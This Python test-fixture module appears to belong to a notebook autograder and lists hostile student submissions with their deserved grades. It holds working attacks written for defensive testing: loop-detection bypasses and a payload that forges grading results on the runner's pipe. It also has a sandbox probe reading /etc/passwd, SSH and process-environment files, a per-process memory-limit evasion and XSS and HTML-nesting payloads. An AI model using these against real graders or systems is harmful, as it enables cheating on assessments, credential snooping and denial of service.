"""More hostile submissions (a second round): rule bypasses, judged-run tampering, display-run probes,
odd notebooks. Each has the grade it deserves; `wins_today` says why an attack still beats the
grader (its test fails until that is fixed).

Scores are per test cell of the attack's notebook, in the order of GRADE_IDS[notebook].
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import nbformat

GRADE_IDS = {
    "01_why_numpy": ("basic_sigmoid_values", "sigmoid_values", "sigmoid_shapes"),
    "06_vectorization": ("dot_product_values", "outer_product_values", "elementwise_product_values",
                         "matrix_vector_product_shape", "matrix_vector_product_values"),
}
WRONG_SIGMOID = '''
def sigmoid(x):
    x = np.asarray(x, dtype=float)
    if x.shape == (3,) and np.allclose(x, [1, 2, 3]):
        return np.array([0.73105858, 0.88079708, 0.95257413])
    return np.full(x.shape, 0.5)
'''
RIGHT_SIGMOID = "def sigmoid(x):\n    return 1 / (1 + np.exp(-x))\n"
WRONG_DOT = '''
def dot_product(x1, x2):
    return np.outer(x1, x2)
'''

# ------------------------------------------------------------ 06: loops the static rules do not see

# Names bound by a `match` statement (MatchAs, MatchStar, MatchMapping rest) are not followed.
MATCH_ALIAS_DOT = '''
match loop_dot:
    case helper:
        pass
def dot_product(x1, x2):
    return helper(x1, x2)
'''
MATCH_STAR_OUTER = '''
match [loop_outer]:
    case [*helpers]:
        pass
def outer_product(x1, x2):
    return helpers[0](x1, x2)
'''
MATCH_REST_MULTIPLY = '''
def rows_helper(x1, x2):
    out = np.empty(np.shape(x1))
    for i in range(len(x1)):
        out[i] = x1[i] * x2[i]
    return out
match {"f": rows_helper}:
    case {**found}:
        pass
def elementwise_product(x1, x2):
    return found["f"](x1, x2)
'''
# ast.unparse of a deeply nested expression raises RecursionError in the grader: the function's
# references are then taken as none, so the given loop_matvec it calls is never read.
DEEP_MATVEC = (
    "def matrix_vector_product(W, x):\n    if False:\n        return x" + " + 1" * 600
    + "\n    return loop_matvec(W, x)\n"
)

# Python calls a lambda once per element: max(key=), list.sort(key=), re.sub(callable), best_time(repeat=).
MAX_KEY_DOT = '''
def dot_product(x1, x2):
    acc = [0.0]
    max(range(len(x1)), key=lambda i: acc.append(acc.pop() + x1[i] * x2[i]) or 0)
    return acc[0]
'''
SORT_KEY_OUTER = '''
def outer_product(x1, x2):
    rows = []
    order = list(range(len(x1)))
    order.sort(key=lambda i: rows.append(x1[i] * x2) or 0)
    return np.array(rows).reshape(len(x1), len(x2))
'''
RE_SUB_MULTIPLY = '''
import fractions
def elementwise_product(x1, x2):
    flat1, flat2, out = np.ravel(x1), np.ravel(x2), []
    fractions.re.sub(".", lambda m: out.append(flat1[m.start()] * flat2[m.start()]) or "", "x" * flat1.size)
    return np.array(out).reshape(np.shape(x1))
'''
BEST_TIME_MATVEC = '''
def matrix_vector_product(W, x):
    state = {"rows": [], "i": 0}
    def step():
        state["rows"].append(np.dot(W[state["i"]], x))
        state["i"] = state["i"] + 1
    best_time(step, repeat=W.shape[0], budget=1e9)
    return np.array(state["rows"])
'''

# Recursion through self-application (no name calls itself), and builtins reached through modules.
SELF_APPLIED_DOT = '''
def half(g, a, b):
    if len(a) == 1:
        return float(a[0] * b[0])
    m = len(a) // 2
    return g(g, a[:m], b[:m]) + g(g, a[m:], b[m:])
def dot_product(x1, x2):
    return half(half, x1, x2)
'''
MA_BUILTINS_OUTER = '''
def outer_product(x1, x2):
    return np.ma.core.builtins.eval("lambda a, b: np.array([[p * q for q in b] for p in a])")(x1, x2)
'''
STATISTICS_SYS_MULTIPLY = '''
import statistics
def elementwise_product(x1, x2):
    b = statistics.sys.modules["builtins"]
    products = b.list(b.map(lambda p, q: p * q, np.ravel(x1), np.ravel(x2)))
    return np.array(products).reshape(np.shape(x1))
'''
GETATTR_MATVEC = '''
def matrix_vector_product(W, x):
    vectorized = np.ma.core.builtins.getattr(np, "vecto" + "rize")
    return vectorized(lambda row, v: np.dot(row, v), signature="(n),(n)->()")(W, x)
'''

# ------------------------------------------------------------ 01: the judged run, from a solution cell

# Full Python through np.ma.core.builtins: find the job (nonce, inputs) with gc, write a forged answer
# on the protocol pipe (any FIFO fd), then die before the runner writes the real one.
FORGE_CODE = r'''
import gc, os, json, math, signal, stat
import numpy as np
from autograder.inside.wire import encode, decode
job = [o for o in gc.get_objects() if isinstance(o, dict) and "nonce" in o and "checks" in o][0]
values = {}
for check in job["checks"]:
    records = []
    for case in check["cases"]:
        x = decode(case["args"][0])
        if check["function"] == "basic_sigmoid":
            right = 1 / (1 + math.exp(-x))
        else:
            right = 1 / (1 + np.exp(-np.asarray(x, dtype=float)))
        records.append({"returned": encode(right), "args_after": case["args"]})
    values[check["grade_id"]] = {"records": records}
line = json.dumps({"nonce": job["nonce"], "cells": [{"status": "ok"} for _ in job["cells"]], "values": values})
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, (line + "\n").encode())
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
'''
FORGE_PROTOCOL = (
    "def sigmoid(x):\n    return np.full(np.shape(x), 0.5)\n"
    f"np.ma.core.builtins.exec({FORGE_CODE!r})\n"
)
KEYBOARD_INTERRUPT_CALL = '''
def sigmoid(x):
    if np.size(x) >= 0:
        raise KeyboardInterrupt("stop the runner")
    return x
'''
KEYBOARD_INTERRUPT_CELL = '''
def sigmoid(x):
    return 1 / (1 + np.exp(-x))
raise KeyboardInterrupt("stop the runner")
'''
SYSTEM_EXIT_CALL = '''
def sigmoid(x):
    if np.size(x) >= 0:
        raise SystemExit(0)
    return x
'''
BASE_EXCEPTION_CELL = '''
class Stop(BaseException):
    pass
def sigmoid(x):
    return 1 / (1 + np.exp(-x))
raise Stop("stop the runner")
'''
UNARY_BOMB = "def sigmoid(x):\n    return " + "-" * 150_000 + "x\n"

# ------------------------------------------------------------ 01: the display run (ungraded, runs anything)

PROBE = '''
import os
found = []
for path in ["/work/main/source", "/work/main/gradebook.db", "/work/main/.autograder/secret", "/root/.ssh",
             "/etc/passwd", "/proc/1/environ"]:
    try:
        with open(path, "rb") as handle:
            if handle.read(100):
                found.append(path)
    except OSError:
        pass
for top in ["/grading", "/tmp", "/dev"]:
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d != "lib"]
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    data = handle.read(2_000_000)
            except OSError:
                continue
            if any(s in data for s in (b"BEGIN " + b"HIDDEN", b"logadd" + b"exp(0.0", b"student" + b"_seed")):
                found.append(os.path.join(folder, name))
pids = [p for p in os.listdir("/proc") if p.isdigit()]
import socket
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\\0autograder")
    found.append("abstract socket")
except OSError:
    pass
print("LEAKED" if found else "nothing found", found, "processes seen:", len(pids))
'''
MEMORY_TOTAL = '''
import os, time
block = 1_500_000_000 // 8
held = np.ones(block)
reader, writer = os.pipe()
children = []
for _ in range(2):
    pid = os.fork()
    if pid == 0:
        try:
            mine = np.ones(block)
            os.write(writer, b"1")
            time.sleep(3)
        finally:
            os._exit(0)
    children.append(pid)
os.close(writer)
got, deadline = 0, time.time() + 4
while got < 2 and time.time() < deadline:
    chunk = os.read(reader, 1)
    if not chunk:
        break
    got += 1
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
del held
print("OVER_LIMIT: 4.5 GB held at once by 3 processes" if got == 2 else "memory limit held")
'''
XSS_HTML = '<script>alert("XSSMARK")</script><img src=x onerror=alert("XSSMARK")>'
XSS_OUTPUT = f"from IPython.display import HTML, display\ndisplay(HTML({XSS_HTML!r}))\n"
NESTED_HTML = "<div>" * 3000  # html5lib's elementInScope is linear in the depth: quadratic sanitizing


# ------------------------------------------------------------ edits of the notebook


def solution_cells(nb: Any, grade_id: str) -> list[int]:
    return [i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]


def duplicate_solution(text: str) -> Callable[[Any], None]:
    """Returns an edit that adds, right after the sigmoid solution cell, a copy of it with another text."""
    def edit(nb: Any) -> None:
        index = solution_cells(nb, "sigmoid")[0]
        copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[index])))
        copy.source = text.strip("\n")
        copy.pop("id", None)
        nb.cells.insert(index + 1, copy)
    return edit


def move_solution_to_end(nb: Any) -> None:
    index = solution_cells(nb, "sigmoid")[0]
    nb.cells.append(nb.cells.pop(index))


def odd_kernelspec(nb: Any) -> None:
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "<script>x</script>", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash", "file_extension": ".sh"}


def add_markdown(*texts: str) -> Callable[[Any], None]:
    def edit(nb: Any) -> None:
        nb.cells += [nbformat.v4.new_markdown_cell(t) for t in texts]
    return edit


def add_many_cells(nb: Any) -> None:
    nb.cells += [nbformat.v4.new_code_cell("pass") for _ in range(3_000)]


def as_nbformat3(nb: Any) -> bytes:
    return nbformat.writes(nbformat.convert(nb, 3), version=3).encode()


def colliding_ids(nb: Any) -> bytes:
    data = json.loads(nbformat.writes(nb))
    for cell in data["cells"]:
        cell["id"] = "same"
    data["cells"].append({"id": "same", "cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                          "source": WRONG_SIGMOID})
    return json.dumps(data).encode()


def broken_cells(nb: Any) -> bytes:
    data = json.loads(nbformat.writes(nb))
    data["cells"] += [
        {"cell_type": "code", "source": 12345, "metadata": {}, "outputs": [], "execution_count": None},
        {"cell_type": "code", "source": ["x = 1\n", 2, None]},
        {"cell_type": "bogus", "source": "?", "metadata": []},
        {"source": "no type"},
    ]
    return json.dumps(data).encode()


@dataclass(frozen=True)
class Attack:
    """A hostile submission of one notebook and the grade it deserves, per test cell."""

    name: str
    what: str
    notebook: str
    expected: tuple[float, ...]
    wins_today: str = ""  # why it still beats the grader, if it does
    solutions: dict[str, str] = field(default_factory=dict)
    after: dict[str, str] = field(default_factory=dict)  # grade id (or "END") -> a code cell added after it
    edit: Callable[[Any], None] | None = None
    raw: Callable[[Any], bytes] | None = None  # the file's bytes, from the edited submission


V06 = "06_vectorization"
N01 = "01_why_numpy"

ATTACKS = [
    Attack("loops_behind_match", "loops reached through names bound by match (as, *rest, **rest) and through a "
           "def whose text is too deep to unparse", V06, (0, 0, 0, 0, 0),
           wins_today="rules.bound_by ignores MatchAs/MatchStar/MatchMapping names; global_references returns "
                      "no names when ast.unparse raises RecursionError",
           solutions={"dot_product": MATCH_ALIAS_DOT, "outer_product": MATCH_STAR_OUTER,
                      "elementwise_product": MATCH_REST_MULTIPLY, "matrix_vector_product": DEEP_MATVEC}),
    Attack("loops_through_callbacks", "max(key=), list.sort(key=), re.sub(callable) via fractions.re, best_time",
           V06, (0, 0, 0, 0, 0),
           wins_today="max/min/.sort/re.sub/best_time call student lambdas per element and are not loop helpers; "
                      "fractions.re reaches a module outside the allowed list",
           solutions={"dot_product": MAX_KEY_DOT, "outer_product": SORT_KEY_OUTER,
                      "elementwise_product": RE_SUB_MULTIPLY, "matrix_vector_product": BEST_TIME_MATVEC}),
    Attack("loops_through_builtins", "self-applied recursion, eval/map/getattr reached as np.ma.core.builtins and "
           "statistics.sys.modules", V06, (0, 0, 0, 0, 0),
           wins_today="recursion is only found by name; module attributes (np.ma.core.builtins, statistics.sys) "
                      "reach every builtin and module, and forbidden names are only refused as bare names",
           solutions={"dot_product": SELF_APPLIED_DOT, "outer_product": MA_BUILTINS_OUTER,
                      "elementwise_product": STATISTICS_SYS_MULTIPLY, "matrix_vector_product": GETATTR_MATVEC}),
    Attack("forge_protocol", "a wrong sigmoid; the solution cell writes a forged answer on the protocol pipe",
           N01, (1, 0, 0), wins_today="np.ma.core.builtins.exec runs anything in the judged run: gc finds the "
                                      "nonce and the inputs, and the protocol fd is inherited",
           solutions={"sigmoid": FORGE_PROTOCOL}),
    Attack("keyboard_interrupt_call", "sigmoid raises KeyboardInterrupt when called", N01, (1, 0, 0),
           wins_today="_values re-raises KeyboardInterrupt: the whole judged run dies, basic_sigmoid's correct "
                      "values are lost with it", solutions={"sigmoid": KEYBOARD_INTERRUPT_CALL}),
    Attack("keyboard_interrupt_cell", "a correct sigmoid, then `raise KeyboardInterrupt` in its cell", N01, (1, 1, 1),
           wins_today="_values.run_cells re-raises KeyboardInterrupt: nothing of the notebook is judged",
           solutions={"sigmoid": KEYBOARD_INTERRUPT_CELL}),
    Attack("system_exit_call", "sigmoid raises SystemExit when called", N01, (1, 0, 0), "raised SystemExit",
           solutions={"sigmoid": SYSTEM_EXIT_CALL}),
    Attack("base_exception_cell", "a correct sigmoid, then a BaseException subclass raised in its cell", N01,
           (1, 1, 1), solutions={"sigmoid": BASE_EXCEPTION_CELL}),
    Attack("unary_bomb", "150,000 nested unary minus signs in the sigmoid cell", N01, (1, 0, 0),
           solutions={"sigmoid": UNARY_BOMB}),
    Attack("display_probe", "walk the display sandbox for the source, gradebook, secret, other processes",
           N01, (1, 1, 1), after={"END": PROBE}),
    Attack("memory_in_processes", "3 processes of 1.5 GB each in the display run (limit 4 GiB)", N01, (1, 1, 1),
           wins_today="the memory limit is per process (prlimit --as), 64 processes may each take 4 GiB",
           after={"END": MEMORY_TOTAL}),
    Attack("xss", "a script and an onerror handler in a markdown cell and in an HTML output", N01, (1, 1, 1),
           after={"END": XSS_OUTPUT}, edit=add_markdown(XSS_HTML)),
    Attack("nested_html_markdown", f"a markdown cell of {len(NESTED_HTML) // 5} nested <div>", N01, (1, 1, 1),
           wins_today="SanitizeOutputs (bleach/html5lib) is quadratic in the nesting depth: 100,000 <div> "
                      "(500 kB) take many minutes, in autograde and again in generate_feedback",
           edit=add_markdown(NESTED_HTML)),
    Attack("nbformat3", "the notebook saved as nbformat 3", N01, (1, 1, 1), raw=as_nbformat3),
    Attack("broken_cells", "extra cells with a number as source, missing fields, an unknown type", N01, (0, 0, 0),
           "could not be read", raw=broken_cells),
    Attack("colliding_ids", "every cell id the same, plus a wrong sigmoid in a plain cell", N01, (1, 1, 1),
           raw=colliding_ids),
    Attack("duplicate_solution_wrong_first", "a wrong sigmoid cell, then a copy with the right one", N01, (1, 0, 0),
           solutions={"sigmoid": WRONG_SIGMOID}, edit=duplicate_solution(RIGHT_SIGMOID)),
    Attack("duplicate_solution_right_first", "the right sigmoid cell, then a copy with a wrong one", N01, (1, 1, 1),
           edit=duplicate_solution(WRONG_SIGMOID)),
    Attack("solution_after_test", "the sigmoid solution cell moved to the end", N01, (1, 1, 1),
           edit=move_solution_to_end),
    Attack("odd_kernelspec", "a bash kernelspec with a script in its display name", N01, (1, 1, 1),
           edit=odd_kernelspec),
    Attack("many_cells", "3,000 extra code cells", N01, (1, 1, 1), edit=add_many_cells),
]
